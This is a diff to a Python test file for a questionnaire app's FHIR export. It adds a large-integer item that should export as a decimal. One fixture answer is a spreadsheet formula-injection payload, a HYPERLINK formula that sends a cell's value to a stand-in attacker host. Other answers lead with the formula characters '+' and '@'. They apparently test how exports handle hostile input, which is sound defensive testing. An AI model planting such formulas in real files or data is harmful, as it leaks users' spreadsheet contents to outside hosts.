@@ -200,6 +200,7 @@ ALL_TYPES = {
             {"link_id": "g.string", "type": "string", "text": "A string", "share": "shared"},
             {"link_id": "g.text", "type": "text", "text": "A text"},
             {"link_id": "g.int", "type": "integer", "text": "An integer", "min": 0, "max": 100},
+            {"link_id": "g.big", "type": "integer", "text": "A large integer"},
             {"link_id": "g.dec", "type": "decimal", "text": "A decimal"},
             {"link_id": "g.date", "type": "date", "text": "A date"},
             {"link_id": "g.scale", "type": "scale", "text": "A scale", "min": 1, "max": 5,
@@ -227,7 +228,7 @@ def exported(app, counselor_a):
     sam_answers = {
         "g.bool": False, "g.choice": "y", "g.multi": ["p", "r"], "g.open": "u", "g.open2": "in my own words",
         "g.string": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "g.text": "+1 and -1 and @SUM(A1)",
-        "g.int": 42, "g.dec": "2.5", "g.date": "2024-02-29", "g.scale": 4,
+        "g.int": 42, "g.big": 5_000_000_000, "g.dec": "2.5", "g.date": "2024-02-29", "g.scale": 4,
         "g.desire": desire({"give": "yes", "receive": "maybe"}, limit=True, note=sam_note),
     }
     sam.answer_and_submit(sam_answers)
@@ -263,6 +264,8 @@ def test_fhir_questionnaire_response_of_every_item_type(exported, client_a):
     assert by_id["g.string"]["answer"] == [{"valueString": answers["g.string"]}]
     assert by_id["g.int"]["answer"] == [{"valueInteger": 42}]
     assert by_id["g.dec"]["answer"] == [{"valueDecimal": 2.5}]
+    # FHIR R4 integers are 32-bit: a larger whole number keeps its value as a decimal
+    assert by_id["g.big"]["answer"] == [{"valueDecimal": 5_000_000_000}]
     assert by_id["g.date"]["answer"] == [{"valueDate": "2024-02-29"}]
     assert by_id["g.scale"]["answer"] == [{"valueInteger": 4}]
     sub = {i["linkId"]: i for i in by_id["g.desire"]["item"]}
